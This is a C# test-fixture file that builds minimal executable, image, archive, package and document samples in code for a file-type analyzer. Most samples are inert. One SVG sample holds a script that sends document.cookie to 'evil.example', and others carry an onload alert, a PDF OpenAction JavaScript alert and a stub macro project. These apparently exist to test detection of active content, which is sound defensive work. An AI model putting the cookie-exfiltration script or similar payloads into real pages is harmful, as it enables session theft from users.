using System.Buffers.Binary;
using System.Formats.Tar;
using System.IO.Compression;
using System.Text;

namespace Gatehouse.Analysis.Tests.Analyzers.FileType;

/// <summary>Samples built in code (DESIGN.md: no committed binaries): executables, images, archives, documents.</summary>
internal static class FileTypeSamples
{
    /// <summary>A minimal PE32+ header: MZ, e_lfanew = 0x80, "PE\0\0", an AMD64 COFF header and an optional header magic.</summary>
    public static byte[] Pe()
    {
        var b = new byte[1024];
        b[0] = (byte)'M';
        b[1] = (byte)'Z';
        BinaryPrimitives.WriteUInt32LittleEndian(b.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(b.AsSpan(0x80));
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(0x84), 0x8664);   // machine
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(0x86), 1);        // sections
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(0x94), 0xF0);     // optional header size
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(0x96), 0x22);     // characteristics: executable, large address aware
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(0x98), 0x20B);    // PE32+
        return b;
    }

    /// <summary>A 64-bit little-endian ELF header; e_type 2 = EXEC, 3 = DYN.</summary>
    public static byte[] Elf(ushort type = 2)
    {
        var b = new byte[512];
        "\u007fELF"u8.CopyTo(b);
        b[4] = 2;   // 64-bit
        b[5] = 1;   // little-endian
        b[6] = 1;   // version
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(16), type);
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(18), 0x3E);   // x86-64
        BinaryPrimitives.WriteUInt32LittleEndian(b.AsSpan(20), 1);
        BinaryPrimitives.WriteUInt16LittleEndian(b.AsSpan(52), 64);     // e_ehsize
        return b;
    }

    /// <summary>A valid 2x2 RGB PNG (correct CRCs, zlib IDAT).</summary>
    public static byte[] Png()
    {
        using var ms = new MemoryStream();
        ms.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, 2);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), 2);
        ihdr[8] = 8;   // bit depth
        ihdr[9] = 2;   // RGB
        Chunk(ms, "IHDR", ihdr);
        var raw = new byte[2 * (1 + 2 * 3)];   // filter byte + 2 pixels, per row
        for (var i = 0; i < raw.Length; i++) raw[i] = (byte)(i * 37);
        raw[0] = 0;
        raw[7] = 0;
        using var z = new MemoryStream();
        using (var zl = new ZLibStream(z, CompressionLevel.Optimal, leaveOpen: true)) zl.Write(raw);
        Chunk(ms, "IDAT", z.ToArray());
        Chunk(ms, "IEND", []);
        return ms.ToArray();
    }

    private static void Chunk(Stream s, string type, byte[] data)
    {
        Span<byte> len = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(len, (uint)data.Length);
        s.Write(len);
        var typeAndData = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        s.Write(typeAndData);
        BinaryPrimitives.WriteUInt32BigEndian(len, Crc32(typeAndData));
        s.Write(len);
    }

    private static uint Crc32(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
        }
        return ~crc;
    }

    /// <summary>A zip with the given members (deflated), in the given order.</summary>
    public static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var ms = new MemoryStream();
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var s = zip.CreateEntry(name).Open();
                s.Write(Encoding.UTF8.GetBytes(content));
            }
        }
        return ms.ToArray();
    }

    /// <summary>A jar as Python writes it: MANIFEST first, no 0xCAFE extra field (libmagic says application/zip).</summary>
    public static byte[] Jar() => Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: app.Main\r\n"),
        ("app/Main.class", "\u00ca\u00fe\u00ba\u00be"), ("app/config.properties", "mode=prod\n"));

    public static byte[] War() => Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"), ("WEB-INF/web.xml", "<web-app/>"),
        ("index.jsp", "<html></html>"));

    public static byte[] Nupkg() => Zip(("_rels/.rels", "<Relationships/>"), ("Contoso.Widgets.nuspec", "<package><metadata><id>Contoso.Widgets</id></metadata></package>"),
        ("lib/net8.0/Contoso.Widgets.dll", "not really a dll"), ("[Content_Types].xml", "<Types/>"));

    public static byte[] Vsix() => Zip(("extension.vsixmanifest", "<PackageManifest Version=\"2.0.0\"/>"), ("[Content_Types].xml", "<Types/>"),
        ("extension/package.json", "{\"name\":\"x\"}"));

    public static byte[] Docx(bool macros = false)
    {
        var entries = new List<(string, string)>
        {
            ("[Content_Types].xml", "<Types/>"),
            ("_rels/.rels", "<Relationships/>"),
            ("word/document.xml", "<w:document/>"),
        };
        if (macros) entries.Add(("word/vbaProject.bin", "\u00d0\u00cf\u0011\u00e0 VBA"));
        return Zip(entries.ToArray());
    }

    /// <summary>A CRX3: "Cr24", version 3, header length, an (empty) header, then the zip.</summary>
    public static byte[] Crx()
    {
        var zip = Zip(("manifest.json", "{\"manifest_version\":3,\"name\":\"x\",\"version\":\"1.0\"}"), ("background.js", "console.log(1);"));
        var header = new byte[16];
        "Cr24"u8.CopyTo(header);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(4), 3);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(8), 4);
        return header.Concat(zip).ToArray();
    }

    public static byte[] Tar(params (string Name, byte[] Content)[] entries)
    {
        using var ms = new MemoryStream();
        using (var tar = new TarWriter(ms, TarEntryFormat.Pax, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                var entry = new PaxTarEntry(name.EndsWith('/') ? TarEntryType.Directory : TarEntryType.RegularFile, name);
                if (!name.EndsWith('/')) entry.DataStream = new MemoryStream(content);
                tar.WriteEntry(entry);
            }
        }
        return ms.ToArray();
    }

    public static byte[] Gzip(byte[] content)
    {
        using var ms = new MemoryStream();
        using (var gz = new GZipStream(ms, CompressionLevel.Optimal, leaveOpen: true)) gz.Write(content);
        return ms.ToArray();
    }

    /// <summary>An npm-style package.tgz.</summary>
    public static byte[] Tgz() => Gzip(Tar(("package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}"u8.ToArray()),
        ("package/index.js", "module.exports = 1;\n"u8.ToArray())));

    /// <summary>An OCI image layout tarball as skopeo writes it (blobs first, then index.json and oci-layout).</summary>
    public static byte[] OciLayout() => Tar(
        ("blobs/", []),
        ("blobs/sha256/", []),
        ("blobs/sha256/4b1f5c0e1b3e4a9c2d7f6e5a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c", new byte[3000]),
        ("index.json", "{\"schemaVersion\":2,\"manifests\":[]}"u8.ToArray()),
        ("oci-layout", "{\"imageLayoutVersion\":\"1.0.0\"}"u8.ToArray()));

    /// <summary>A docker-archive (docker save, before Docker 25).</summary>
    public static byte[] DockerArchive() => Tar(
        ("3f0c9a1e/", []),
        ("3f0c9a1e/layer.tar", new byte[2048]),
        ("3f0c9a1e/json", "{}"u8.ToArray()),
        ("manifest.json", "[{\"Config\":\"c.json\",\"RepoTags\":[\"x:1\"],\"Layers\":[\"3f0c9a1e/layer.tar\"]}]"u8.ToArray()),
        ("repositories", "{}"u8.ToArray()));

    public const string PlainSvg = """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24">
          <title>logo</title>
          <circle cx="12" cy="12" r="10" fill="#3366ff" stroke="#000" stroke-width="1"/>
          <a href="https://example.com/docs"><text x="4" y="14" font-family="sans-serif">Hi</text></a>
        </svg>
        """;

    public const string SvgWithScript = """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="24" height="24">
          <circle cx="12" cy="12" r="10" fill="red"/>
          <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
        </svg>
        """;

    public const string SvgWithOnload = """
        <svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" onload="alert(document.domain)">
          <rect width="24" height="24" fill="blue"/>
        </svg>
        """;

    public const string HtmlWithScript = """
        <!DOCTYPE html>
        <html><head><title>Readme</title></head>
        <body><h1>Widget</h1><script src="https://cdn.example/tracker.js"></script></body></html>
        """;

    public const string PlainHtml = """
        <!DOCTYPE html>
        <html><head><title>Readme</title></head>
        <body><h1>Widget</h1><p>Install with <code>make install</code>.</p></body></html>
        """;

    public static byte[] PdfWithJavaScript() => Encoding.ASCII.GetBytes("""
        %PDF-1.7
        1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj
        2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
        3 0 obj << /Type /Action /S /JavaScript /JS (app.alert\(1\)) >> endobj
        trailer << /Root 1 0 R >>
        %%EOF
        """);

    public static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);
}
